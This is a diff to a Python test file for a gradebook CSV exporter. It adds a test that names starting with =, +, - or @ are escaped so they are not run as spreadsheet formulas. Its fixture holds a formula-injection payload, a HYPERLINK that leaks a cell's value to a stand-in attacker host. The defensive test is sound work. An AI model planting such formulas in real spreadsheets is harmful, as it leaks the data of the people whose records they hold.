@@ -119,6 +119,17 @@ def test_gradebook_has_one_row_per_submission_and_one_column_per_test(tmp_path):
     assert rows[3] == ["Zed", "z@x.edu", "", "s2", "1.5", "2", "graded", "1", "0.5"]
 
 
+def test_no_gradebook_cell_runs_as_a_spreadsheet_formula(tmp_path):
+    """Names reach the gradebook from the export's metadata (a student's chosen name) or from a
+    submitted file's name: one starting with = + - @ is text there; numbers stay numbers."""
+    name = '=HYPERLINK("http://evil.example/?"&B2,"details")'
+    records = [Record(Submission("s1", tmp_path / "s1", (Student(name, "@x", "-2+3"),)),
+                      {"score": -1.5, "tests": []}, 1.0, "")]
+    write_gradebook(tmp_path / "gradebook.csv", records)
+    rows = list(csv.reader((tmp_path / "gradebook.csv").open(newline="")))
+    assert rows[1][:5] == ["'" + name, "'@x", "'-2+3", "s1", "-1.5"]
+
+
 def test_students_without_names_are_labelled_by_email_then_id():
     assert Student("", "a@x.edu", "1").label == "a@x.edu"
     assert Student("", "", "1").label == "1"
